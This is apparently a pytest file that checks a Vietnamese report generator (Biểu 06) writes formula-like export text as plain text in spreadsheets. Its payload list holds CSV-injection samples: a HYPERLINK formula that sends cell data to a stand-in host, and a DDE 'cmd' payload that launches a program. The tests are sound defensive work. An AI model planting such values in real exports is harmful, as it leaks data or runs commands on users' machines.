"""Export text that starts with = + - @ is written as text: no live formula in Biểu 06, whatever the column."""

import openpyxl
import pytest
from ingest_files import dossier, write_csv, write_xlsx

from hoaan_analytics import db
from hoaan_analytics.form06 import write_form06
from hoaan_analytics.ingest import ingest_files
from hoaan_analytics.periods import parse_period

PAYLOADS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "=1+1", "\t=1+1"]


def _rows():
    # each payload is a lĩnh vực and a unit name of one resolved dossier of March 2026
    return [dossier(dossier_id=f"INJ-{i}", field_name=p, unit_name=p, procedure_name=p)
            for i, p in enumerate(PAYLOADS)]


def _formulas(path):
    book = openpyxl.load_workbook(path)  # not data_only: formulas stay formulas
    return [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
            and cell.data_type != "s"]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_no_payload_becomes_a_formula_in_form06(export, con, params_dir, tmp_path):
    write = write_csv if export == "csv" else write_xlsx
    ingest_files(con, [write(tmp_path / f"inj.{export}", _rows())], params_dir=params_dir)
    out = write_form06(con, parse_period("2026-03"), tmp_path / "bieu06.xlsx")
    assert _formulas(out) == []
    texts = {c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row}
    # every payload is there, as the text the export held (trimmed like every text value)
    assert {p.strip() for p in PAYLOADS} <= texts


def test_unit_name_payload_in_the_heading_stays_text(con, params_dir, tmp_path):
    ingest_files(con, [write_csv(tmp_path / "inj.csv", _rows())], params_dir=params_dir)
    unit = PAYLOADS[0]
    out = write_form06(con, parse_period("2026-03"), tmp_path / "unit.xlsx", unit=unit)
    assert _formulas(out) == []
    texts = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value]
    assert any(isinstance(t, str) and unit in t for t in texts)
    # the unit's one dossier: handled 1 in the total row
    assert db.scalar(con, "select count(*) from dossiers where unit_name = $u", {"u": unit}) == 1


def test_every_cell_of_form06_is_a_value(con, params_dir, tmp_path):
    ingest_files(con, [write_csv(tmp_path / "inj.csv", _rows())], params_dir=params_dir)
    out = write_form06(con, parse_period("2026-03"), tmp_path / "all.xlsx")
    kinds = {c.data_type for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value is not None}
    assert kinds <= {"s", "n"}  # strings and numbers only
